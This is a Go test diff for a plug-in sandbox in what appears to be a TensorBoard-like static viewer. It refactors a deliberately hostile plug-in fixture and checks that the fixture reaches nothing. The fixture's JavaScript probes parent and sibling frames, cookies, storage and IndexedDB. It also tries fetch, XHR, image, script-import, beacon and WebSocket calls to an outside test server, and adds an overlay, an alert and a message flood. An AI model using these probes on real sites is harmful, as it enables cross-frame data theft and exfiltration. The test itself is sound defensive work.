@@ -5,12 +5,60 @@ package e2e
 import (
 	"net/http"
 	"net/http/httptest"
+	"slices"
 	"strings"
-	"sync/atomic"
+	"sync"
 	"testing"
 
 	"github.com/tensorbored/tensorbored-static/wasm/browsertest"
 )
+
+// trying is what hostile front ends begin with: tryAll writes of each of tries whether it reached something, relay says
+// hello to the viewer by way of another plug-in, picture loads an address as an image.
+const trying = `
+const relay = () => new Promise((yes, no) => {
+		for (let i = 0; i < parent.frames.length; i++) {
+			const c = new MessageChannel();
+			c.port1.onmessage = yes;
+			if (parent.frames[i] !== window) parent.frames[i].postMessage("tensorbored.plugin", "*", [c.port2]);
+		}
+		setTimeout(() => no(new Error("nobody answers")), 500);
+	});
+const picture = (src) => new Promise((yes, no) => {
+	const i = new Image();
+	i.onload = yes;
+	i.onerror = () => no(new Error("refused"));
+	i.src = src;
+});
+const tryAll = async (out, tries) => {
+	for (const [name, f] of Object.entries(tries)) {
+		try {
+			await f();
+			out.textContent += name + ": REACHED\n";
+		} catch (e) {
+			out.textContent += name + ": no\n";
+		}
+	}
+};
+`
+
+// elsewhere is a server of somebody else, and what it was asked for.
+func elsewhere(t *testing.T) (url string, asked func() []string) {
+	var mu sync.Mutex
+	var paths []string
+	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		defer mu.Unlock()
+		paths = append(paths, r.URL.Path)
+		w.Header().Set("Access-Control-Allow-Origin", "*")
+	}))
+	t.Cleanup(s.Close)
+	return s.URL, func() []string {
+		mu.Lock()
+		defer mu.Unlock()
+		return slices.Clone(paths)
+	}
+}
 
 // reaching is a front end that tries to reach what is not its own, and writes what came of it.
 const reaching = `
@@ -18,24 +66,17 @@ const tries = {
 	parent: () => parent.document.title,
 	top: () => top.document.body.innerHTML,
 	sibling: () => [...Array(parent.frames.length).keys()].map((i) => parent.frames[i]).filter((f) => f !== window).map((f) => f.document.title).join(),
-	relayed: () => new Promise((yes, no) => {
-		for (let i = 0; i < parent.frames.length; i++) {
-			const c = new MessageChannel();
-			c.port1.onmessage = yes;
-			if (parent.frames[i] !== window) parent.frames[i].postMessage("tensorbored.plugin", "*", [c.port2]);
-		}
-		setTimeout(() => no(new Error("nobody answers")), 500);
-	}),
+	relayed: () => relay(),
 	storage: () => localStorage.length,
 	session: () => sessionStorage.length,
 	cookie: () => document.cookie,
 	database: () => new Promise((yes, no) => { const r = indexedDB.open("x"); r.onsuccess = yes; r.onerror = () => no(r.error); }),
 	caches: () => caches.keys(),
 	logs: async () => (await fetch(new URL("/data/listing.json", location.href))).text(),
-	logsHidden: () => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = () => no(new Error("refused")); i.src = "/data/listing.json"; }),
+	logsHidden: () => picture("/data/listing.json"),
 	fetch: async () => (await fetch("OUTSIDE/fetch", {mode: "no-cors"})).type,
 	xhr: () => new Promise((yes, no) => { const x = new XMLHttpRequest(); x.open("GET", "OUTSIDE/xhr"); x.onload = yes; x.onerror = () => no(new Error("refused")); x.send(); }),
-	image: () => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = () => no(new Error("refused")); i.src = "OUTSIDE/image.png"; }),
+	image: () => picture("OUTSIDE/image.png"),
 	script: () => import("OUTSIDE/script.js"),
 	beacon: () => { navigator.sendBeacon("OUTSIDE/beacon", "x"); throw new Error("nobody is told"); },
 	socket: () => new Promise((yes, no) => { const w = new WebSocket("OUTSIDE/socket".replace("http", "ws")); w.onopen = yes; w.onerror = () => no(new Error("refused")); }),
@@ -56,14 +97,7 @@ export async function render() {
 	const over = document.body.appendChild(document.createElement("div"));
 	over.textContent = "over";
 	over.style.cssText = "position:fixed;inset:-2000px;z-index:2147483647;background:#f00;opacity:.2";
-	for (const [name, f] of Object.entries(tries)) {
-		try {
-			await f();
-			out.textContent += name + ": REACHED\n";
-		} catch (e) {
-			out.textContent += name + ": no\n";
-		}
-	}
+	await tryAll(out, tries);
 	alert("stop");
 	out.textContent += "done\n";
 }`
@@ -85,13 +119,8 @@ const slowly = `if (parent === window) {
 func TestPageHostileFront(t *testing.T) {
 	t.Parallel()
 	l := greeted(t)
-	var outside atomic.Int64
-	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-		outside.Add(1)
-		w.Header().Set("Access-Control-Allow-Origin", "*")
-	}))
-	defer other.Close()
-	evil := written(t, "evil", "", map[string]string{"index.js": strings.ReplaceAll(reaching, "OUTSIDE", other.URL)})
+	other, asked := elsewhere(t)
+	evil := written(t, "evil", "", map[string]string{"index.js": trying + strings.ReplaceAll(reaching, "OUTSIDE", other)})
 	// So many at once are too many on a machine of any speed: the page counts them between marks of the sender's time.
 	flood := written(t, "flood", "", map[string]string{"index.js": `export function render() {
 		document.body.textContent = "flooding";
@@ -112,8 +141,8 @@ func TestPageHostileFront(t *testing.T) {
 			if strings.Contains(text, "REACHED") || strings.Count(text, ": no") != 25 {
 				t.Errorf("a plug-in reached something:\n%s", text)
 			}
-			if n := outside.Load(); n != 0 {
-				t.Errorf("%d requests went elsewhere", n)
+			if list := asked(); len(list) != 0 {
+				t.Errorf("requests went elsewhere: %q", list)
 			}
 			s.Wait(`location.hash === "#evil" && document.elementFromPoint(innerWidth / 2, 20).closest("header.top") && !document.elementFromPoint(20, 300).closest("iframe")`)
 
